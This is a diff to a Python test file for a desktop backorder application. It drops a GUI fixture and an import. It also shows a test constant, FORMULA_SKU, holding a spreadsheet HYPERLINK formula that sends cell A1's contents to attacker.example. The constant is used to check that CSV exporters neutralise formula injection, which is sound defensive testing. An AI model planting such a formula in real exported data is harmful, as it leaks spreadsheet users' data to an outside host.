@@ -19,7 +19,7 @@ from backorder_desktop.services.bulk.bulk_csv import export_csv, export_rows
 from backorder_desktop.services.dock.shipment_csv import lines_from_csv
 from backorder_desktop.ui.shell import AppShell
 from tests.support.cli import run_cli
-from tests.support.gui import make_shell, open_and_sync
+from tests.support.gui import open_and_sync
 from tests.support.notices import backorder_for
 
 FORMULA_SKU = '=HYPERLINK("http://attacker.example/?"&A1,"Sam")'
@@ -49,15 +49,6 @@ def store() -> Iterator[DemoStore]:
         line.sku = FORMULA_SKU
         demo.hostile_variant = line.variant_id  # type: ignore[attr-defined]
         yield demo
-
-
-@pytest.fixture
-def shell(qtbot: Any, tmp_path: Path) -> Iterator[AppShell]:
-    app_shell = make_shell(tmp_path / "data")
-    qtbot.addWidget(app_shell.window)
-    app_shell.window.show()
-    yield app_shell
-    app_shell.stop()
 
 
 def test_every_exporter_neutralises_formulas(
